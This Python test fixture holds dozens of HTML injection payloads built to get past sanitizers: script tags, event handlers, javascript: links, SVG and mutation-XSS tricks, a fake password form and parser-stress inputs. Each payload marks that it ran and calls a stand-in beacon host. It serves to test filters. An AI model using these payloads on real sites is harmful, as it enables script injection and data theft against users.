"""Pages that try to act where they are shown: known ways past filters, each on its own."""

from __future__ import annotations

BEACON = "https://elsewhere.example/ran"
DEED = f"window.ran=1;new Image().src='{BEACON}'"
SNIPPETS = {
    "script": f"<script>{DEED}</script>",
    "script in pieces": f"<scr<script>ipt>{DEED}</scr</script>ipt>",
    "script from elsewhere": f'<script src="{BEACON}.js"></script>',
    "script without an end": f"<script>{DEED}",
    "script in capitals": f"<SCRIPT\t>{DEED}</SCRIPT >",
    "image with a handler": f'<img src=x onerror="{DEED}">',
    "image with slashes": f'<img/src=x/onerror="{DEED}">',
    "image from elsewhere": f'<img src="{BEACON}.gif" srcset="{BEACON}.png 2x" alt="A map">',
    "hostile words for an image": f'<img src=x alt="&lt;script&gt;{DEED}&lt;/script&gt;">',
    "drawing": f'<svg onload="{DEED}"><script>{DEED}</script><circle r=9 /></svg>',
    "drawing that animates a link": (
        "<svg><a><animate attributeName=href values=javascript:window.ran=1 /><text>x</text></a>"
    ),
    "drawing that uses another": f'<svg><use href="{BEACON}.svg#x" /></svg>',
    "link that runs": f'<a href="javascript:{DEED}">A link</a>',
    "link that runs, in pieces": f'<a href="java&#10;script&colon;{DEED}">A link</a>',
    "link that is a page": '<a href="data:text/html,<script>parent.ran=1</script>">A link</a>',
    "link that is asked for": f'<a href="/x" ping="{BEACON}" target="_top">A link</a>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={BEACON}">',
    "base": f'<base href="{BEACON}/"><a href="x">A link</a>',
    "style": f"<style>@import '{BEACON}.css'; body {{ background: url({BEACON}.gif) }}</style>",
    "style of an element": (
        f'<p style="background:url({BEACON}.gif);width:expression({DEED});position:fixed">x</p>'
    ),
    "style sheet": f'<link rel="stylesheet" href="{BEACON}.css">',
    "asking ahead": f'<link rel="preload" as="image" href="{BEACON}.gif">',
    "frame": f'<iframe src="{BEACON}" srcdoc="<script>{DEED}</script>"></iframe>',
    "frame that runs": '<iframe src="javascript:parent.ran=1"></iframe>',
    "object": f'<object data="{BEACON}.swf"><embed src="{BEACON}.swf"></object>',
    "form": f'<form action="{BEACON}"><input name=password autofocus onfocus="{DEED}"><button>'
    "Log in</button></form>",
    "form by a button": f'<button formaction="javascript:{DEED}" form=x>Go</button>',
    "film": (
        f'<video src="{BEACON}.mp4" autoplay onloadstart="{DEED}" poster="{BEACON}.gif"></video>'
    ),
    "sound": f'<audio src=x onerror="{DEED}"></audio>',
    "opening": f'<details open ontoggle="{DEED}"><summary>More</summary>Details</details>',
    "running text": f'<marquee onstart="{DEED}">x</marquee>',
    "body with a handler": f'<body onload="{DEED}" onpageshow="{DEED}" background="{BEACON}.gif">',
    "template": f"<template><script>{DEED}</script></template>",
    "no script": f'<noscript><p title="</noscript><img src=x onerror={DEED}>">x</p></noscript>',
    "mutation: formula": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        f'onerror={DEED}&gt;">'
    ),
    "mutation: drawing": f'<svg></p><style><a id="</style><img src=1 onerror={DEED}>">',
    "mutation: words": f'<xmp><p title="</xmp><img src=1 onerror={DEED}>"></p></xmp>',
    "mutation: textarea": f'<textarea><p title="</textarea><img src=1 onerror={DEED}>"></textarea>',
    "comment": f"<!--><img src=x onerror={DEED}>-->",
    "conditional comment": f"<!--[if gte IE 4]><script>{DEED}</script><![endif]-->",
    "character data": f"<![CDATA[<img src=x onerror={DEED}>]]>",
    "end of the frame": f"</body></html></iframe><script>{DEED}</script>",
    "names of ours": (
        '<p id="mark">Not this</p><mark id="mark">Nor this</mark><a name="content">x</a>'
    ),
    "words turned round": "<p>\u202etxt.exe\u202c \u0000\u0007 <bdo dir=rtl>x</bdo></p>",
    "table outside": f"<table><a href=x><tr><td onclick={DEED}>x<style>td{{}}</style></td></table>",
    "element of its own": f"<x-y onclick={DEED} is=z><slot>x</slot></x-y>",
    "attribute without an end": f'<p title="<img src=x onerror={DEED}>',
}
NESTED = "<div>" * 50_000 + "deep" + "<b><i>" * 3_000
MANY = "".join(f"<p>Passage {number} &amp; &quot;more&quot;</p>" for number in range(20_000))


def page_with(snippet: str) -> str:
    """Return a list of missions with something hostile before and behind it."""
    return (
        '<!doctype html><html lang="en"><head><title>Operations</title></head><body><main>'
        f"<h1>Operations</h1><ul><li><h3>UNIFIL</h3><p>Mandate until: 31 August 2025</p></li>"
        "<li><h3>UNDOF</h3><p>Mandate until: 31 August 2026</p></li>"
        "<li><h3>UNTSO</h3><p>Since May 1948</p></li></ul>"
        f"{snippet}</main></body></html>"
    )
